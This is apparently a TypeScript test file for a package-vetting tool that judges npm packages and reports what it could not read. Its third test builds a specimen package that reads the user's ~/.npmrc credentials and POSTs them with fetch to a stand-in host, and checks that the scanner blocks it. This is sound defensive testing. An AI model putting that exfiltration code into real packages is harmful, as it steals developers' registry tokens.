import assert from 'node:assert/strict';
import { it } from 'node:test';

import { treeOf } from '../test/examine.ts';
import { DEFAULT_POLICY } from './judge/default-policy.ts';
import type { Refused } from './model/package.ts';
import { FOLLOWING, standingOf, STEPPING, type Verdict, WHOLE } from './model/verdict.ts';
import { LIMITS } from './unpack/limits.ts';
import { vet } from './vet.ts';

const CIRCUMSTANCES = { policy: DEFAULT_POLICY, limits: LIMITS, today: '2026-01-01', clock: () => 0, avoid: [], onFile: () => undefined };

it('a link where a package starts is a gap that warns; one that nothing starts is only told', () => {
  const link: Refused = { as: 'left out', entry: 'index.js', problem: 'link', says: 'a link' };
  const verdictOf = (main: string): Verdict => {
    const files = treeOf({ 'package.json': { name: 'specimen', version: '1.0.0', main }, 'other.js': 'module.exports = 1;' });
    return vet(
      { id: { name: 'specimen', version: '1.0.0', from: 'directory' }, bytes: { as: 'tree', files, refused: [link] } },
      CIRCUMSTANCES,
    );
  };
  const [started, lying] = [verdictOf('index.js'), verdictOf('other.js')];
  assert.deepEqual([started.decision, started.because.map(one => one.rule.name)], ['warn', ['onFailure']]);
  assert.equal(lying.decision, 'allow');
  for (const { coverage } of [started, lying])
    assert.deepEqual(
      coverage.unread.map(one => one.path),
      ['index.js'],
    );
});

it('code that this process may not read is a gap that warns, and so is a folder; a picture is only told', () => {
  const verdictOf = (entry: string): Verdict => {
    const closed: Refused = { as: 'left out', entry, problem: 'unreadable entry', says: 'the system says EACCES' };
    const files = treeOf({
      'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
      'index.js': `require('./b'); require('./lib');`,
    });
    return vet(
      { id: { name: 'specimen', version: '1.0.0', from: 'directory' }, bytes: { as: 'tree', files, refused: [closed] } },
      CIRCUMSTANCES,
    );
  };
  assert.deepEqual(
    verdictOf('b.js').because.map(one => one.rule.name),
    ['onFailure'],
  );
  assert.deepEqual(verdictOf('b.js').coverage.unread, [{ path: 'b.js', why: 'the system says EACCES' }]);
  assert.deepEqual(verdictOf('lib').coverage.unread, [{ path: 'lib', why: 'the system says EACCES' }]);
  assert.deepEqual(verdictOf('a.png').coverage.unread, []);
});

it('what is seen without following data is told, and that it was not followed', () => {
  const files = treeOf({
    'package.json': { name: 'specimen', version: '1.0.0' },
    'index.js': `const fs = require('fs'); require('./send')(fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));`,
    'send.js': `module.exports = text => fetch('https://a.invalid', { method: 'POST', body: text });`,
  });
  const seen: string[] = [];
  const verdictWithout = (avoid: readonly string[]) =>
    vet(
      { id: { name: 'specimen', version: '1.0.0', from: 'tarball' }, bytes: { as: 'tree', files, refused: [] } },
      { ...CIRCUMSTANCES, avoid: avoid.map(path => ({ path, why: 'ran out of memory' })), onFile: path => seen.push(path) },
    );
  const whole = verdictWithout([]);
  assert.deepEqual([whole.decision, whole.coverage.unread], ['block', []]);
  assert.equal(seen.at(-1), FOLLOWING, 'whoever watches knows what it is at');
  const less = verdictWithout([FOLLOWING]);
  assert.equal(standingOf(less), 'unknown');
  assert.deepEqual(less.coverage.unread, [
    { path: WHOLE, why: 'its data was not followed from one place to another, which ran out of memory' },
  ]);
  assert.deepEqual(verdictWithout([STEPPING]).coverage.unread, [
    { path: WHOLE, why: 'it was not gone through step by step, which ran out of memory' },
  ]);
  assert.ok(less.findings.some(one => one.detector === 'reads-credentials'));
  assert.ok(less.deeds.some(one => one.kind === 'connects'));
});
